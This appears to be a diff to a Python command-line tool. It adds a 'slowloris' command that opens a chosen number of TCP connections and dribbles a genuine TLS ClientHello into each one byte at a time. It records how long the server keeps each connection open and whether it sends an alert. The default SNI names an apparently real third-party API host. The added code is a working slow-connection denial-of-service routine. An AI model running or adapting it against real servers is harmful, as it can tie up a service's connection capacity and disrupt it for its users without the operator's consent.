@@ -169,5 +169,74 @@ COMMANDS = {
     "hold": hold,
 }
 
+
+def client_hello(sni):
+    """The ClientHello a real TLS client sends for `sni` (Python's own ssl, nothing hand-made)."""
+    import ssl
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
+    try:
+        tls.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return outgoing.read()
+
+
+def slowloris(host, port, count, interval_ms, deadline_s, sni="api2.cursor.sh"):
+    """Open `count` connections and dribble a real ClientHello into each, one byte per
+    `interval_ms`, until the server closes them or `deadline_s` passes. Reports how long each
+    lasted, how many bytes it sent and whether a TLS alert came back."""
+    import selectors
+    import time
+    hello = client_hello(sni)
+    sel = selectors.DefaultSelector()
+    started = time.monotonic()
+    state = {}
+    for _ in range(int(count)):
+        s = socket.socket(family_of(host), socket.SOCK_STREAM)
+        s.connect((host, int(port)))
+        s.setblocking(False)
+        state[s] = {"sent": 0, "opened": time.monotonic(), "alert": False}
+        sel.register(s, selectors.EVENT_READ)
+    print(json.dumps({"open": len(state), "hello_bytes": len(hello)}), flush=True)
+    lasted, sent, alerts = [], [], 0
+    next_byte = time.monotonic()
+    while state and time.monotonic() - started < float(deadline_s):
+        for key, _ in sel.select(timeout=0.02):
+            s = key.fileobj
+            try:
+                data = s.recv(4096)
+            except OSError:
+                data = b""
+            if data[:1] == b"\x15":
+                state[s]["alert"] = True
+            if not data:
+                st = state.pop(s)
+                lasted.append(time.monotonic() - st["opened"])
+                sent.append(st["sent"])
+                alerts += st["alert"]
+                sel.unregister(s)
+                s.close()
+        if time.monotonic() >= next_byte:
+            next_byte += int(interval_ms) / 1000
+            for s, st in state.items():
+                if st["sent"] < len(hello):
+                    try:
+                        s.send(hello[st["sent"]:st["sent"] + 1])
+                        st["sent"] += 1
+                    except OSError:
+                        pass
+    for s in state:
+        s.close()
+    out({"closed": len(lasted), "still_open": len(state), "alerts": alerts,
+         "lasted_ms": [round(min(lasted) * 1000), round(max(lasted) * 1000)] if lasted else [],
+         "sent_max": max(sent) if sent else 0, "hello_bytes": len(hello)})
+
+
+COMMANDS["slowloris"] = slowloris
+
 if __name__ == "__main__":
     COMMANDS[sys.argv[1]](*sys.argv[2:])
